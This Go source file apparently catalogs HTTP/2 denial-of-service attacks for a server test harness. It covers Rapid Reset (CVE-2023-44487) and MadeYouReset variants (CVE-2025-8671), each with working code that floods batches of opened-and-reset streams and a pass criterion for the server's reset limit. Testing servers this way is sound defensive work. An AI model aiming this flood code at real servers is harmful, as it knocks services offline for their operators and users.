package catalog

import (
	"github.com/e0ac7cd4/hotpath/internal/frame"
	"github.com/e0ac7cd4/hotpath/tools/attack/origin"
	"github.com/e0ac7cd4/hotpath/tools/attack/peer"
)

// resetBatch is how many streams are begun and ended in one write.
const resetBatch = 50

// stuck has responses wait for a window, so that their streams are open when what
// ends them comes.
var stuck = peer.Options{Settings: []frame.Setting{{ID: frame.InitialWindowSize, Value: 0}}}

func resets() []Attack {
	all := []Attack{
		{
			Name: "rapid-reset", Reference: "CVE-2023-44487",
			Does:   "streams are begun and reset in one write, without end",
			Passes: "the connection ends within max-resets streams and one write",
			Ends:   calm, Limit: "early_reset", Short: 4, Long: 50,
			Try: flood(stuck, 2*resetBatch, func(c *peer.Conn) (b []byte) {
				for range resetBatch {
					id, get := c.Get(c.To.Large)
					b = frame.AppendRSTStream(append(b, get...), id, frame.Cancel)
				}
				return b
			}),
		},
		{
			Name: "rapid-reset-misses", Reference: "CVE-2023-44487",
			Does:   "the same for what the origin has to be asked for",
			Passes: "the connection ends within max-resets streams and one write, and fetches that no client waits for are given up",
			Ends:   calm, Limit: "early_reset", Short: 4, Long: 50, NeedsOrigin: true,
			Try: flood(stuck, 2*resetBatch, func(c *peer.Conn) (b []byte) {
				for range resetBatch {
					id, get := c.Get(c.To.Origin + origin.Slow + random())
					b = frame.AppendRSTStream(append(b, get...), id, frame.Cancel)
				}
				return b
			}),
		},
	}
	for _, v := range []struct {
		name, does string
		bad        func(c *peer.Conn, id uint32) []byte
	}{
		{"window-zero", "a WINDOW_UPDATE of 0", func(_ *peer.Conn, id uint32) []byte {
			return frame.AppendWindowUpdate(nil, id, 0)
		}},
		{"window-overflow", "a WINDOW_UPDATE past 2^31-1", func(_ *peer.Conn, id uint32) []byte {
			return frame.AppendWindowUpdate(frame.AppendWindowUpdate(nil, id, frame.MaxWindow), id, frame.MaxWindow)
		}},
		{"data-after-end", "DATA behind the end of the request", func(_ *peer.Conn, id uint32) []byte {
			return peer.Raw(frame.Data, frame.FlagEndStream, id, []byte("x"))
		}},
		{"headers-after-end", "HEADERS behind the end of the request", func(c *peer.Conn, id uint32) []byte {
			return frame.AppendHeaders(nil, id, true, peer.Block("x-late", "1"), frame.MinMaxSize)
		}},
		{"priority-size", "PRIORITY of a wrong size", func(_ *peer.Conn, id uint32) []byte {
			return peer.Raw(frame.Priority, 0, id, []byte{0})
		}},
		{"priority-self", "a stream that depends on itself", func(_ *peer.Conn, id uint32) []byte {
			return peer.Raw(frame.Priority, 0, id, []byte{byte(id >> 24), byte(id >> 16), byte(id >> 8), byte(id), 16})
		}},
	} {
		all = append(all, Attack{
			Name: "made-you-reset-" + v.name, Reference: "CVE-2025-8671",
			Does:   "the server is made to reset each stream by " + v.does,
			Passes: "a reset that the peer provokes counts as its own",
			Ends:   calm, Limit: "early_reset", Short: 4, Long: 50,
			Try: flood(stuck, 2*resetBatch, func(c *peer.Conn) (b []byte) {
				for range resetBatch {
					id, get := c.Get(c.To.Large)
					b = append(append(b, get...), v.bad(c, id)...)
				}
				return b
			}),
		})
	}
	return append(all, Attack{
		Name: "made-you-reset-content-length", Reference: "CVE-2025-8671, RFC 9113 §8.1.1",
		Does:   "the server is made to reset each stream by content that is longer than content-length says",
		Passes: "a reset that the peer provokes counts as its own",
		Ends:   calm, Limit: "early_reset", Short: 4, Long: 50,
		Try: flood(peer.Options{}, 2*resetBatch, func(c *peer.Conn) (b []byte) {
			for range resetBatch {
				id, post := c.Post(c.To.Large, "content-length", "1")
				b = append(append(b, post...), peer.Raw(frame.Data, frame.FlagEndStream, id, []byte("xx"))...)
			}
			return b
		}),
	})
}
